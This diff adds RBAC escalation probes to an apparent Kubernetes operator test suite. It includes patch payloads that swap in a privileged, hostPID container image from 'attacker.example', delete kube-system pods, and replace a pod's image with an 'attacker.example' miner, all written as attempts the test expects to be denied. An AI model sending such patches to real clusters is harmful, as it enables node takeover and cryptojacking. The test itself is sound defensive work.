@@ -125,6 +125,24 @@ spec:
 `), &rollout))
 	rollout.Namespace = ns
 	require.NoError(t, framework.Client.Create(ctx, &rollout))
+	// A StatefulSet in kube-system that even carries rollout-operator's ownership annotation, and one
+	// of the test namespace it may step (no replicas: neither starts pods); a kube-system pod the
+	// singleton-operator could hijack or delete, and a pod of the test namespace held as the webhook
+	// holds one (its hold annotation).
+	systemSTS := statefulSet(probe, nil)
+	systemSTS.Namespace, systemSTS.Spec.Replicas = "kube-system", ptr.To[int32](0)
+	systemSTS.Annotations = map[string]string{rolloutv1alpha1.ManagedByAnnotation: "probe"}
+	framework.CreateForTest(t, systemSTS)
+	ownSTS := statefulSet(probe, nil)
+	ownSTS.Namespace, ownSTS.Spec.Replicas = ns, ptr.To[int32](0)
+	framework.CreateForTest(t, ownSTS)
+	systemPod := framework.TestPod(probe)
+	systemPod.Namespace = "kube-system"
+	framework.CreateForTest(t, systemPod)
+	heldPod := framework.TestPod("held")
+	heldPod.Namespace = ns
+	heldPod.Annotations = map[string]string{singletonv1.AnnotationHoldMode: string(singletonv1.HoldModeWrapper)}
+	framework.CreateForTest(t, heldPod)
 
 	operatorNames := []string{"singleton-operator", "cluster-operator", "lease-operator", "rollout-operator", "extended-operator"}
 	var identities []escalationIdentity
@@ -140,6 +158,31 @@ spec:
 			id.attempts = append(id.attempts, patchTry("change a pod label that is not its role's (app)", "retarget the Services that select on it",
 				collection("/api/v1/namespaces/"+ns+"/pods"), pod.Name, `{"metadata":{"labels":{"app":"hijacked"}}}`))
 		}
+		if id.name == "rollout-operator" {
+			// It patches StatefulSets (the partition, its annotation, a template rollback): never in
+			// kube-system, never another field (rollout-operator-statefulset-writes).
+			id.attempts = append(id.attempts,
+				patchTry("patch a kube-system StatefulSet's pod template (privileged, host PID)", "node root through the control plane's namespace",
+					collection("/apis/apps/v1/namespaces/kube-system/statefulsets"), probe,
+					`{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"main","image":"attacker.example/root:1","securityContext":{"privileged":true}}]}}}}`),
+				patchTry("set a kube-system StatefulSet's partition", "hold or release the control plane's pods",
+					collection("/apis/apps/v1/namespaces/kube-system/statefulsets"), probe, `{"spec":{"updateStrategy":{"rollingUpdate":{"partition":0}}}}`),
+				patchTry("scale a StatefulSet it manages", "change a workload beyond its partition",
+					collection("/apis/apps/v1/namespaces/"+ns+"/statefulsets"), probe,
+					fmt.Sprintf(`{"metadata":{"annotations":{%q:"probe"}},"spec":{"replicas":5}}`, rolloutv1alpha1.ManagedByAnnotation)))
+		}
+		if id.name == "singleton-operator" {
+			// It releases, adopts and deletes the pods it holds: never in kube-system, never another
+			// label (singleton-operator-pod-writes).
+			id.attempts = append(id.attempts,
+				patchTry("patch a kube-system pod's labels", "retarget the control plane's Services, or take the pod out of its ReplicaSet",
+					collection("/api/v1/namespaces/kube-system/pods"), probe, probeLabel),
+				attempt("delete a kube-system pod", "take a control-plane component down", func(ctx context.Context, c kubernetes.Interface) error {
+					return c.CoreV1().Pods("kube-system").Delete(ctx, probe, dryDelete)
+				}),
+				patchTry("change the image of a pod it holds", "run another program as the pod",
+					collection("/api/v1/namespaces/"+ns+"/pods"), heldPod.Name, `{"spec":{"containers":[{"name":"main","image":"attacker.example/miner:1"}]}}`))
+		}
 	}
 	// The identities' own writes (dry-run): each must stay allowed.
 	legit := map[string][]try{
@@ -148,6 +191,9 @@ spec:
 				collection("/api/v1/namespaces"), ns, fmt.Sprintf(`{"metadata":{"labels":{%q:"true"}}}`, singletonv1.LabelNamespaceEnabled)),
 			eventTry(ns),
 			leaderLeaseTry("singleton-operator-system", "escalation-probe-leader"),
+			patchTry("release a pod it holds (its epoch annotation)", "the release of a handover",
+				collection("/api/v1/namespaces/"+ns+"/pods"), heldPod.Name, fmt.Sprintf(`{"metadata":{"annotations":{%q:"1",%q:"1"}}}`,
+					singletonv1.AnnotationEpoch, singletonv1.AnnotationStartGranted)),
 		},
 		"cluster-operator": {
 			attempt("create a pod owned by a StatefulCluster", "it is the controller of its StatefulClusters' pods", func(ctx context.Context, c kubernetes.Interface) error {
@@ -181,6 +227,9 @@ spec:
 			}),
 			eventTry(ns),
 			leaderLeaseTry("rollout-operator-system", "escalation-probe-leader"),
+			patchTry("take a StatefulSet over: its partition and ownership annotation", "each step of a PhasedRollout",
+				collection("/apis/apps/v1/namespaces/"+ns+"/statefulsets"), probe,
+				fmt.Sprintf(`{"metadata":{"annotations":{%q:"probe"}},"spec":{"updateStrategy":{"rollingUpdate":{"partition":1}}}}`, rolloutv1alpha1.ManagedByAnnotation)),
 		},
 		"extended-operator": {
 			createTry("create a StatefulSet owned by an ExtendedStatefulSet", "each version is a StatefulSet it owns", "/apis/apps/v1/namespaces/"+ns+"/statefulsets", labelled(statefulSet("owned", owner("fissile.cloudfoundry.org/v1alpha1", "ExtendedStatefulSet")), extendedv1alpha1.NameLabel, "probe")),
